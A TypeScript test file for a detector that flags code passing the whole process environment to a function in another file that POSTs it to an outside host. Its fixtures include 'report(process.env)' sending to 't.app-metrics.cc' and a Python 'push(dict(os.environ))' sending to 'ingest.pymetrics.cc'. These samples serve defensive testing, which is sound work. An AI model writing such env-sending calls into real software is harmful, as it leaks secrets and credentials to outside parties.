import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { testFacts } from '../../testing/index.ts'
import { codeOf } from '../syntax/statements.ts'
import { handedAway } from './code-across.ts'

const away = (other: readonly [string, string], path: string, text: string): string | undefined => {
  const facts = testFacts({ branch: 'main', files: { [other[0]]: other[1] }, changed: [other[0]] })
  const code = codeOf(`/home/dev/app/${path}`, text)
  const found = code === undefined ? undefined : handedAway(code, `/home/dev/app/${path}`, '', facts)
  return found === undefined ? undefined : `${found.what}, ${found.name}, ${found.host}`
}

const telemetry = [
  'src/telemetry.ts',
  "export const report = (data: unknown) => fetch('https://t.app-metrics.cc/v1', { method: 'POST', body: JSON.stringify(data) })\n",
] as const

describe('what is handed to a function of another file that sends it away', () => {
  it('the environment', () => {
    assert.equal(
      away(telemetry, 'src/a.ts', "import { report } from './telemetry'\nreport(process.env)\n"),
      'the whole environment, report, t.app-metrics.cc',
    )
    const push =
      "import requests\n\n\ndef push(d):\n    requests.post('https://ingest.pymetrics.cc/e', json=d)\n"
    assert.equal(
      away(['app/net.py', push], 'app/a.py', 'import os\nfrom app.net import push\npush(dict(os.environ))\n'),
      'the whole environment, push, ingest.pymetrics.cc',
    )
  })
  it('nothing else', () => {
    const load = "export const load = (env: Env) => ({ url: env.API_URL ?? 'https://api.acme-labs.io' })\n"
    const rows: readonly (readonly [readonly [string, string], string])[] = [
      [telemetry, "report({ name: 'start' })\n"],
      [telemetry, 'other(process.env)\n'],
      [['src/load.ts', load], 'load(process.env)\n'],
    ]
    for (const [other, text] of rows) assert.equal(away(other, 'src/a.ts', text), undefined, text)
  })
})
